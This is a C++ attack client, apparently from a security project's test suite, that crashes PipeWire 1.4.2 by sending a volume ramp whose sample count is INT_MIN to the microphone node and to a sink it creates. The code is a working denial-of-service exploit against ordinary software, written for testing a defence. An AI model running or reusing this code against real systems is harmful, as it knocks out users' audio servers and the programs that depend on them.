// SPDX-License-Identifier: GPL-3.0-or-later
// Sends the one Props with a volume ramp that crashes PipeWire 1.4.2, to the microphone, which it may not be allowed to write
// to, and to a sink that it has the server make; ends when the server is gone. Tier 4 (unsandboxed and hostile).
#include "tests/attackers/client.hpp"

#include <spa/param/props.h>
#include <spa/pod/builder.h>

#include <array>
#include <limits>

namespace micguard::attack {
namespace {

void ramp(pw_node* node, float volume) {
    std::array<std::byte, 256> memory{};
    spa_pod_builder b{};
    spa_pod_builder_init(&b, memory.data(), sizeof(memory));
    // The number of steps is this number divided by -1, the length of a step that nobody has set: more than an int holds,
    // at which an x86 processor ends the process at once. Any other ramp (volumeRampTime) never comes to its end, and the
    // server with it only when its memory does.
    constexpr int samples = std::numeric_limits<int>::min();
    const auto* props = static_cast<const spa_pod*>(
        spa_pod_builder_add_object(&b, SPA_TYPE_OBJECT_Props, SPA_PARAM_Props, SPA_PROP_volume,
                                   SPA_POD_Float(volume), SPA_PROP_volumeRampSamples, SPA_POD_Int(samples)));
    pw_node_set_param(node, SPA_PARAM_Props, 0, props);
}

int attack(const Options& options) {
    Report report(options, 4);
    Loop loop(options);
    const auto connection = Connection::open(loop, options, "crash_server");
    if (!connection || !connection->roundTrip())
        throw std::runtime_error("no server");
    const spa_dict_item items[] = {{"factory.name", "support.null-audio-sink"},
                                   {"node.name", "crash_server.sink"},
                                   {"media.class", "Audio/Sink"},
                                   {"audio.position", "[ MONO ]"}};
    const spa_dict properties{0, 4, items};
    pw_proxy* made = nullptr;
    loop.every(std::chrono::milliseconds(10), [&] {
        // A ramp needs a change of volume, and how it crashes depends on its direction.
        const float volume = report.attempts % 2 == 0 ? 0.5F : 1.0F;
        const auto target = connection->node(options.source);
        if (pw_proxy* proxy = target ? connection->bind(*target, PW_VERSION_NODE) : nullptr)
            ramp(reinterpret_cast<pw_node*>(proxy), volume);
        // By what was handed out at its making, with which its maker may do everything.
        if (made == nullptr)
            made = static_cast<pw_proxy*>(pw_core_create_object(
                connection->core(), "adapter", PW_TYPE_INTERFACE_Node, PW_VERSION_NODE, &properties, 0));
        ramp(reinterpret_cast<pw_node*>(made), volume);
        report.attempts++;
        if (report.exhausted() || connection->lost())
            loop.end();
    });
    loop.runUntil([&] { return loop.ended() || connection->lost(); }, std::chrono::hours(1));
    report.accepted = connection->lost() ? 1 : 0;
    report.note("crashed", connection->lost());
    report.print();
    return 0;
}

} // namespace
} // namespace micguard::attack

int main(int argc, char** argv) {
    using namespace micguard::attack;
    const Options options = parseOptions(argc, argv);
    return runAttack(argc, argv, options, [&] { return attack(options); });
}
